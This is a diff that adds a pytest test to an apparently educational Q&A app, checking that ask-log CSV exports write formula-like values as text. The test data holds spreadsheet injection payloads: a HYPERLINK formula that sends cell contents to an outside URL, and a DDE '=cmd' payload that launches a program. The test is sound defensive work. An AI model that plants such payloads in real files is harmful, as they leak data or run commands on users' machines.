@@ -246,3 +246,19 @@ def test_timestamps_round_trip():
 
     moment = datetime(2026, 11, 30, 1, 2, 3, 456000, tzinfo=timezone.utc)
     assert parse_utc(utc_iso(moment)) == moment
+
+
+@pytest.mark.parametrize("question", ['=HYPERLINK("http://x/?"&A2,"answer")', "@SUM(A1:A2)", "-1+2", "+1"])
+def test_every_ask_log_csv_export_writes_formulas_as_text(tmp_path, question):  # issue 12, F4
+    import csv
+
+    store = Store(tmp_path / "eduqa.db")
+    log = AskLog(store)
+    log.record(AskRecord(client="=cmd|' /C calc'!A0", kind="text", question=question, truncated=False,
+                         matched_id=None, confidence=0.1, abstained=True, stage_ms={}, backend="b"))
+    log.export_csv(tmp_path / "cli.csv")
+    with (tmp_path / "cli.csv").open(encoding="utf-8", newline="") as fh:
+        row = list(csv.reader(fh))[1]
+    assert "'" + question in row and "'=cmd|' /C calc'!A0" in row
+    log.close()
+    store.close()
